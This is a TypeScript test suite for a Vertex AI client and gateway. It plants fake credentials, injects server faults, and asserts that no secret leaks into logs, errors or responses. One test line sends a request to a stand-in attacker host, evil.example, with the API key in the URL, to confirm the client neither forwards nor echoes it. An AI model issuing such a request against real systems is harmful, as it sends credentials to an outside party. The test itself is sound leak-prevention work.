/** Secrets planted everywhere, every fault and refusal played, and all output searched. */
import { createVertex, type Credentials, type VertexOptions } from "../../../mod.ts";
import { vertexGateway } from "../../../src/hono/mod.ts";
import {
  type EmulatorOptions,
  type Fault,
  faults,
  type RecordedRequest,
} from "../../../src/testing/mod.ts";
import { everythingIn, goodKey } from "../../fixtures.ts";
import { assert, test } from "../../harness.ts";
import { type Desk, hello, openDesk } from "./desk.ts";

const CALLER_KEY = "planted-caller-authorization-5f0c";
const GATEWAY_KEY = "planted-gateway-key-8d1e77aa";
const API_KEY = "AIzaPlantedApiKey0123456789abcdef";
const limits: Partial<VertexOptions> = {
  models: [hello.model],
  timeoutMs: 25,
  idleTimeoutMs: 25,
  retry: { maxAttempts: 2, baseDelayMs: 0 },
};

/** Everything that a user of the library can see, as text. */
type Said = string[];

function hooksInto(said: Said): VertexOptions["hooks"] {
  const hear = (event: object) => said.push(...Object.values(event).map(everythingIn));
  return {
    onRequest: hear,
    onResponse: hear,
    onRetry: hear,
    onToken: hear,
    onUsage: hear,
    onError: (error) => said.push(everythingIn(error)),
  };
}

/** Reads as much of a response as says anything: an endless one is left. */
async function read(response: Response): Promise<string> {
  const head = JSON.stringify([...response.headers]);
  const reader = response.body?.getReader();
  const decoder = new TextDecoder();
  let text = "";
  for (let parts = 0; parts < 40; parts++) {
    const { done, value } = await reader?.read() ?? { done: true };
    if (done) return head + text;
    text += decoder.decode(value, { stream: true });
  }
  await reader?.cancel();
  return head + text;
}

async function listen({ vertex }: Desk): Promise<string> {
  let text = "";
  let chunks = 0;
  for await (const chunk of vertex.chat.completions.stream(hello)) {
    text += JSON.stringify(chunk);
    if (++chunks > 40) break;
  }
  return text;
}

/** All ways to ask. */
function ways(desk: Desk): (() => Promise<unknown>)[] {
  const { vertex } = desk;
  const gateway = vertexGateway({ vertex, apiKeys: [GATEWAY_KEY] });
  const post = (key: string, stream: boolean) => ({
    method: "POST",
    headers: { authorization: `Bearer ${key}`, "content-type": "application/json" },
    body: JSON.stringify({ ...hello, stream }),
  });
  const url = "https://vertex.invalid/v1/chat/completions";
  return [
    async () => JSON.stringify(await vertex.chat.completions.create(hello)),
    () => listen(desk),
    ...[false, true].flatMap((stream) => [
      async () => read(await vertex.fetch(url, post(CALLER_KEY, stream))),
      async () => read(await gateway.request("/v1/chat/completions", post(GATEWAY_KEY, stream))),
    ]),
  ];
}

/** What the client sent that nobody else may see. */
async function secretsOf(requests: readonly RecordedRequest[]): Promise<string[]> {
  const sent = requests.flatMap(({ headers, body }) => [
    headers.authorization?.replace("Bearer ", ""),
    new URLSearchParams(body).get("assertion"),
  ]);
  const known = [(await goodKey()).private_key, CALLER_KEY, GATEWAY_KEY, API_KEY];
  return [...known, ...sent.filter((secret) => typeof secret === "string")];
}

/** The pieces of secrets that stand in a text. */
function leaks(said: Said, secrets: readonly string[]): string[] {
  const text = said.join("\n");
  const pieces = secrets.flatMap((secret) =>
    secret.replace(/-----[A-Z ]+-----/g, " ").match(/[^\s"'\\]{12}/g) ?? []
  );
  return [...new Set(pieces)].filter((piece) => text.includes(piece));
}

/** Asks in every way, each with a client of its own. @returns What was sent. */
async function playAll(
  said: Said,
  fault: Fault | undefined,
  options: Partial<VertexOptions> = {},
  emulatorOptions: EmulatorOptions = {},
): Promise<RecordedRequest[]> {
  const sent: RecordedRequest[] = [];
  const ofToken = JSON.stringify(fault)?.includes("token") ?? false;
  for (let way = 0; way < 6; way++) {
    const desk = await openDesk({
      ...limits,
      // A mint goes on after its caller has left, so nobody leaves here.
      ...(ofToken && { timeoutMs: 5_000 }),
      hooks: hooksInto(said),
      ...options,
    }, emulatorOptions);
    if (!ofToken && !options.credentials) await desk.vertex.getAccessToken();
    if (fault) desk.emulator.fail({ times: 9, ...fault });
    try {
      said.push(String(await ways(desk)[way]?.()));
    } catch (error) {
      said.push(everythingIn(error));
    }
    sent.push(...desk.emulator.requests);
  }
  return sent;
}

const refusals: Fault[] = [400, 401, 403, 404, 408, 429, 500, 502, 503, 504].flatMap((status) => [
  { status, bodyShape: "object" },
  { status, bodyShape: "html", on: "token" },
]);
// A mint that hangs outlives its callers by design, and would outlive the test. What is huge says nothing new.
const played = faults.filter((fault) => !/^(hang-token|huge-.*)$/.test(fault));

for (const fault of [undefined, ...played.map((fault) => ({ fault })), ...refusals]) {
  test(`No secret is said anywhere, given ${JSON.stringify(fault) ?? "no fault"}`, async () => {
    const said: Said = [];
    const secrets = await secretsOf(await playAll(said, fault));
    assert.isAbove(secrets.length, 4);
    assert.deepEqual(leaks(said, secrets), []);
  });
}

test("No API key is said anywhere, though the server quotes it", async () => {
  for (const fault of ["echo-refusal", "echo-in-200", "echo-in-stream"] as const) {
    const said: Said = [];
    const credentials: Credentials = {
      getToken: () => Promise.resolve({ token: API_KEY, type: "apiKey" }),
    };
    const options = { project: "my-project", credentials };
    const sent = await playAll(said, { fault }, options, { apiKeys: [API_KEY] });
    assert.isTrue(sent.some(({ headers }) => headers["x-goog-api-key"] === API_KEY));
    assert.deepEqual(leaks(said, [API_KEY]), []);
    assert.include(said.join(), "[redacted]");
  }
});

test("No wrong key is said by the gateway, nor by the client that refuses it", async () => {
  const { vertex } = await openDesk(limits);
  const gateway = vertexGateway({ vertex, apiKeys: [GATEWAY_KEY] });
  const said: Said = [];
  for (const authorization of [`Bearer ${CALLER_KEY}`, CALLER_KEY, `Basic ${CALLER_KEY}`]) {
    const init = { method: "POST", headers: { authorization }, body: JSON.stringify(hello) };
    said.push(await read(await gateway.request("/v1/chat/completions", init)));
    said.push(
      await read(await gateway.request(`/v1/models/${hello.model}`, { headers: init.headers })),
    );
    said.push(await read(await vertex.fetch(`https://evil.example/?key=${API_KEY}`, init)));
    try {
      await vertex.chat.completions.create(hello, { headers: { authorization } });
    } catch (error) {
      said.push(everythingIn(error));
    }
  }
  for (
    const credentials of [
      API_KEY,
      { private_key: CALLER_KEY, client_email: "a@b" },
      btoa(CALLER_KEY),
    ]
  ) {
    try {
      createVertex({ credentials });
    } catch (error) {
      said.push(everythingIn(error));
    }
  }
  assert.deepEqual(leaks(said, [CALLER_KEY, GATEWAY_KEY, API_KEY, btoa(CALLER_KEY)]), []);
});
